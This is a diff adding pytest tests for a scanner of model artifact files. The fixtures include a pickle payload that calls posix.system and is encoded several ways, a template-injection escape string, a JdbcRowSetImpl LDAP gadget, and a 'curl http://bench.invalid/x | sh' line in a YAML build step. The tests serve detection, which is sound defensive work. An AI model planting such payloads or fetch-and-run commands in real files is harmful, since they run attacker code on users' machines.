@@ -2,11 +2,18 @@
 
 from __future__ import annotations
 
+import base64
+import bz2
+import gzip
 import json
+import lzma
+import pickle
+import zlib
 
 import pytest
 from tests.engine.artifacts.configs.documents import rules
 
+HOSTILE = b"\x80\x04\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x04echo\x94\x85\x94R\x94."
 ESCAPE = "{{ ''.__class__.__mro__[1].__subclasses__() }}"
 
 
@@ -164,3 +171,64 @@ def test_modular_pipelines_of_diffusers() -> None:
     assert rules(index, "modular_model_index.json") == {"name.known-gadget": "critical"}
     index["unet"] = ["diffusers", "UNet2DModel", {"repo": "a/b"}]
     assert rules(index, "modular_model_index.json") == {}
+
+
+WRITTEN = {
+    "base64": base64.b64encode(HOSTILE),
+    "base64 of protocol 0": base64.b64encode(b"cposix\nsystem\n(S'echo'\ntR."),
+    "base64 for addresses": base64.urlsafe_b64encode(HOSTILE),
+    "zlib": base64.b64encode(zlib.compress(HOSTILE)),
+    "zlib, fast": base64.b64encode(zlib.compress(HOSTILE, 1)),
+    "zlib, best": base64.b64encode(zlib.compress(HOSTILE, 9)),
+    "gzip": base64.b64encode(gzip.compress(HOSTILE)),
+    "bzip2": base64.b64encode(bz2.compress(HOSTILE)),
+    "xz": base64.b64encode(lzma.compress(HOSTILE)),
+    "hexadecimal": HOSTILE.hex().encode(),
+}
+
+
+@pytest.mark.parametrize("form", WRITTEN)
+def test_a_pickle_that_is_written_as_text(form: str) -> None:
+    text = WRITTEN[form].decode()
+    expected = {"name.known-gadget": "critical"}
+    assert rules({"a": {"anything": text}}, "model.json") == expected
+    assert rules({"a": [text]}, "model.json") == expected
+    assert rules([text], "model.json") == expected
+    assert rules(f'anything = "{text}"\n', "model.toml") == expected
+    assert rules(f"<scheme><properties>\n{text}</properties></scheme>", "flow.ows") == expected
+    assert rules(text + "\n", "model.txt") == expected
+
+
+@pytest.mark.parametrize("form", ["base64", "zlib", "gzip", "base64 of protocol 0"])
+def test_a_pickle_that_is_written_in_a_large_document(form: str) -> None:
+    large: dict[str, object] = {f"word{number}": number for number in range(200_000)}
+    document = {**large, "weights": WRITTEN[form].decode(), "end": 1}
+    assert rules(document, "model.json") == {"name.known-gadget": "critical"}
+
+
+def test_texts_that_only_begin_alike() -> None:
+    honest = base64.b64encode(pickle.dumps({"a": [1, 2.5, "three"] * 20})).decode()
+    packed = base64.b64encode(zlib.compress(b"plain words, nothing else " * 20)).decode()
+    broken = WRITTEN["base64"].decode()[:30] + "!!!" + "A" * 40
+    digest = "8004" + "0123456789abcdef" * 3
+    for text in (honest, packed, broken, digest, "eJwords and more words than twenty-four", "H4sI"):
+        assert rules({"a": text}, "model.json") == {}, text
+        assert rules(text, "model.txt") == {}, text
+
+
+def test_java_classes_in_other_forms() -> None:
+    pair = ["com.sun.rowset.JdbcRowSetImpl", {"dataSourceName": "ldap://bench.invalid/x"}]
+    assert rules({"a": pair}, "model.json") == {"config.foreign-object": "high"}
+    assert rules(pair, "model.json") == {"config.foreign-object": "high"}
+    assert rules(["java.util.ArrayList", [1, 2]], "model.json") == {}
+    field = {"type": "string", "java-class": "javax.script.ScriptEngineManager"}
+    schema = {"type": "record", "name": "r", "fields": [{"name": "a", "type": field}]}
+    assert rules(schema, "rows.avsc") == {"document.avro-class": "high"}
+    field["java-class"] = "java.util.UUID"
+    assert rules(schema, "rows.avsc") == {}
+
+
+def test_a_command_in_a_list() -> None:
+    fetches = "build:\n  run:\n    - curl http://bench.invalid/x | sh\n"
+    assert rules(fetches, "cog.yaml") == {"config.fetched-command": "high"}
+    assert rules("build:\n  run:\n    - pip list | sort\n", "cog.yaml") == {}
